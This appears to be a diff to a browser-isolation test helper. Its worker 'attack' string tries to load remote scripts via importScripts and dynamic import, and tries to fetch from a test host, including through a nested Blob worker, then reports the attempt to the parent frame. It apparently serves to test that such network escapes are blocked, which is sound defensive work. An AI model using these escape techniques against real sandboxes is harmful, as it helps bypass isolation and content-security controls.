@@ -14,6 +14,7 @@ attempt(() => importScripts("http://" + http + "/w-scripts"));
 attempt(() => import("http://" + http + "/w-import"));
 attempt(() => new Worker(URL.createObjectURL(new Blob(["fetch('http://" + http + "/w-nested', { mode: 'no-cors' }).catch(() => {})"]))));
 attempt(() => fetch("http://HOST.faultline.test/"));
+postMessage("tried");
 `;
 
 /** From the document of a frame. */
@@ -32,4 +33,5 @@ try {
 
 /** Starts WORKER_ATTACK from a frame. */
 export const startWorker = (attack: string): string =>
-  `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(attack).replace(/</g, "\\u003c")}], { type: "text/javascript" })));`;
+  `const worker = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(attack).replace(/</g, "\\u003c")}], { type: "text/javascript" })));` +
+  `worker.onmessage = ({ data }) => parent.postMessage(data, "*");`;
